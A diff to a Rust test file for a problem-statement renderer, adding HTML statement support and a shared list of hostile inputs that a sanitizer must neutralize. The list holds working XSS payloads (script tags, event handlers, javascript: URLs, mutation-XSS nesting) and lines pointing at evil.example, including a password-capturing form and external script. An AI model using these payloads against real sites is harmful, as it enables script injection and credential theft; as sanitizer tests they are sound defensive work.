@@ -1,4 +1,4 @@
-//! Statements in Markdown and LaTeX, and what must never come out of them.
+//! Statements in Markdown, LaTeX and HTML, and what must never come out of them.
 
 // Helpers of tests may fail as tests do.
 #![allow(clippy::unwrap_used)]
@@ -295,36 +295,78 @@ fn links_do_not_hand_over_the_window() {
 }
 
 #[test]
+fn html_becomes_a_statement() {
+    let text = "<!DOCTYPE html><html><head><title>T</title><style>p { color: red }</style></head>\n<body onload='x()'><h1>Sum</h1>\n<!-- <b>not this</b> -->\
+        <p>Add $$$a \\le b$$$ and \\(c &lt; d\\), for $5 or $6.</p><h3>Input</h3><pre>\\(as it is\\)</pre>$$x + y$$ <IMG SRC='map.png'\n alt='a > b'>\n\\(\\nosuch{1}\\)</body></html>";
+    for name in ["problem_statement/problem.html", "problem_statement/problem.en.html", "problem.html"] {
+        let package = Fixture::new()
+            .without("statement/problem.en.md")
+            .with("problem.yaml", "problem_format_version: legacy\nname: Sum\n")
+            .with("problem_statement/map.png", PNG)
+            .with(name, text)
+            .read();
+        let html = html(&package);
+        for part in ["<h2>Sum</h2>", "for $5 or $6.", "<h4>Input</h4>", r"<pre>\(as it is\)</pre>", "alt=\"a &gt; b\""]
+        {
+            assert!(html.contains(part), "{part:?} is not in {html}");
+        }
+        assert!(!html.contains("not this") && !html.contains("color") && !html.contains("<title>"), "{html}");
+        assert_eq!((html.matches("<math").count(), html.matches("display=\"block\"").count()), (3, 1), "{html}");
+        assert_eq!(package.statements[0].files.len(), 1);
+        let warnings: Vec<_> = package.warnings.iter().map(|warning| warning.line).collect();
+        assert_eq!(warnings, [Some(5)], "{:?}", package.warnings);
+    }
+}
+
+#[test]
+fn hostile_html_stays_harmless() {
+    for text in HOSTILE.into_iter().chain([
+        "<script>alert(1)",
+        "<style><!--</style><script>alert(1)</script>-->",
+        "<h1 onclick=alert(1)>x</h1>",
+        "$$$\\text{<img src=x onerror=alert(1)>}$$$",
+        "\\(&lt;script>alert(1)&lt;/script>\\)",
+        "<p title='$$$x$$$' onclick='alert(1)'>",
+        "<a \"><script>alert(1)</script>",
+    ]) {
+        let package = Fixture::new().without("statement/problem.en.md").with("statement/problem.en.html", text).read();
+        harmless(html(&package), text);
+    }
+}
+
+#[test]
 fn hostile_markdown_stays_harmless() {
-    for text in [
-        "<script>alert(1)</script>",
-        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-        "<style>body { display: none }</style>",
-        "<p style='position:fixed' onclick='alert(1)'>x</p>",
-        "<a href='jav&#x61;script:alert(1)'>x</a>",
-        "<a href=' javascript:alert(1)'>x</a>",
-        "[x](data:text/html;base64,PHNjcmlwdD4=)",
-        "<svg><script>alert(1)</script></svg>",
-        "<svg onload=alert(1)>",
-        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-        "<form action='https://evil.example'><input name=password><button>x</button></form>",
-        "<object data=x></object><embed src=x>",
-        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
-        "<div title=\"\n\n$\\text{\" onmouseover=alert(1) x=}$\n\n\">x</div>",
-        "<div title='\n\n$x$\n\n'>x</div>",
-        "<textarea>\n\n$x$</textarea><script>alert(1)</script>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        "$\\text{</mtext></math><script>alert(1)</script>}$",
-        "`</code><script>alert(1)</script>`",
-        "```\"><script>alert(1)</script>\nx\n```",
-        "<!--><script>alert(1)</script>-->",
-        "<img src='https://evil.example/x.png'> ![x](//evil.example/x.png)",
-        "<img src=\"map.png\" alt=\"\"onerror=alert(1) x=\"\">",
-    ] {
+    for text in HOSTILE {
         harmless(html(&markdown(text).read()), text);
     }
 }
+
+const HOSTILE: [&str; 24] = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<style>body { display: none }</style>",
+    "<p style='position:fixed' onclick='alert(1)'>x</p>",
+    "<a href='jav&#x61;script:alert(1)'>x</a>",
+    "<a href=' javascript:alert(1)'>x</a>",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg onload=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<form action='https://evil.example'><input name=password><button>x</button></form>",
+    "<object data=x></object><embed src=x>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
+    "<div title=\"\n\n$\\text{\" onmouseover=alert(1) x=}$\n\n\">x</div>",
+    "<div title='\n\n$x$\n\n'>x</div>",
+    "<textarea>\n\n$x$</textarea><script>alert(1)</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "$\\text{</mtext></math><script>alert(1)</script>}$",
+    "`</code><script>alert(1)</script>`",
+    "```\"><script>alert(1)</script>\nx\n```",
+    "<!--><script>alert(1)</script>-->",
+    "<img src='https://evil.example/x.png'> ![x](//evil.example/x.png)",
+    "<img src=\"map.png\" alt=\"\"onerror=alert(1) x=\"\">",
+];
 
 #[test]
 fn hostile_latex_stays_harmless() {
